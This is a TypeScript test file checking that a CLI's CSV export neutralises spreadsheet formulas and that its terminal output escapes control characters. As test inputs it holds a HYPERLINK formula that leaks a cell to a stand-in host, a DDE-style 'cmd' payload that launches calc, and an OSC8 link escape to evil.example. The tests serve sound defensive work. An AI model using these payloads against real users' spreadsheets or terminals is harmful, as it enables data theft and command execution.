import { Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { csvCell } from '../../cli/commands/query.ts';
import { createProgress, formatReport, formatTable, printable } from '../../cli/output.ts';
import type { RunReport } from '../../shared/state/runs.ts';

/** Any C0/C1 control character, DEL included: what a terminal would act on. */
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
const OSC8_LINK = '\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007';
const CLEAR = '\u001b[2J';

describe('csvCell: a spreadsheet never runs a cell as a formula', () => {
  it.each([
    ['=HYPERLINK("http://x/?leak="&B2, "open")', `"'=HYPERLINK(""http://x/?leak=""&B2, ""open"")"`],
    ['+1+cmd', "'+1+cmd"],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
  ])('prefixes %j with a quote', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it.each([
    ['a\rb', '"a\rb"'],
    ['a\nb', '"a\nb"'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
  ])('quotes %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('writes numbers, negative ones included, and plain text as they are', () => {
    expect([csvCell(-3), csvCell('-3'), csvCell('-0.5'), csvCell(12n), csvCell('Ada'), csvCell(null)]).toEqual(['-3', '-3', '-0.5', '12', 'Ada', '']);
  });
});

describe('terminal output prints control characters escaped, never raw', () => {
  it('escapes them in table cells and headers', () => {
    // Act
    const table = formatTable([`name${CLEAR}`], [[OSC8_LINK], [`two\nlines\r`]]);
    // Assess
    expect(table).not.toMatch(RAW_CONTROL);
    expect(table.split('\n')).toHaveLength(4);
    expect(table).toContain('\\e]8;;https://evil.example/\\x07click\\e]8;;\\x07');
    expect(table).toContain('two\\nlines\\r');
  });

  it('escapes them in the sync summary and its log lines', () => {
    // Prepare
    const report: RunReport = {
      runId: 'r1',
      snapshotDate: '2026-11-21',
      status: 'failed',
      finishedAt: '2026-11-21T02:10:00.000Z',
      streams: [
        {
          runId: 'r1',
          integrationId: 'lever:X1',
          model: 'candidates',
          status: 'failed',
          finishedAt: '2026-11-21T02:05:00.000Z',
          totals: { pages: 1, requests: 1, retries: 0, throttles: 0, rows: {}, files: 0 },
          code: `BAD${CLEAR}`,
          reason: `Kombo said ${OSC8_LINK}`,
        },
      ],
    };
    const chunks: string[] = [];
    const stream = new Writable({ write: (c: Buffer | string, _e, done) => (chunks.push(String(c)), done()) }) as unknown as NodeJS.WriteStream;
    // Act
    const summary = formatReport(report);
    createProgress(stream, () => 0).retry({ integrationId: 'lever:X1', model: 'candidates', attempt: 1, maxAttempts: 8, delayMs: 250, code: 'X', message: `bad gateway ${CLEAR}`, pausesAll: false });
    // Assess
    expect(summary).not.toMatch(RAW_CONTROL);
    expect(summary).toContain('Kombo said \\e]8;;https://evil.example/');
    expect(chunks.join('')).not.toMatch(RAW_CONTROL);
    expect(chunks.join('')).toContain('bad gateway \\e[2J');
  });

  it('keeps printable text and accents as they are', () => {
    expect(printable('Zoë 日本 🚀 ok')).toBe('Zoë 日本 🚀 ok');
  });
});
